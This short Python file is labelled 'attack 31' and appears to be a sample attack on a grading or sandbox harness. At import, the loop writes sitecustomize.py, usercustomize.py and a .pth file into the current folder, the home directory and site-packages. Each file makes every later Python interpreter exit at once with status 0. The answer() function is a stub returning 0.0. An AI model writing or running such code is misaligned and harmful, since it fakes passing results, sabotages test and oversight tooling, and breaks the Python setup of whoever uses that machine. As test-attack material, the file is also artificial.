"""Leaves start-up files for later interpreters (attack 31)."""
import os, site
for folder in ('.', os.path.expanduser('~'), site.getsitepackages()[0]):
    for name in ('sitecustomize.py', 'usercustomize.py', 'x.pth'):
        try: open(os.path.join(folder, name), 'w').write('import os; os._exit(0)')
        except OSError: pass

def answer(*args, **kwargs):
    return 0.0
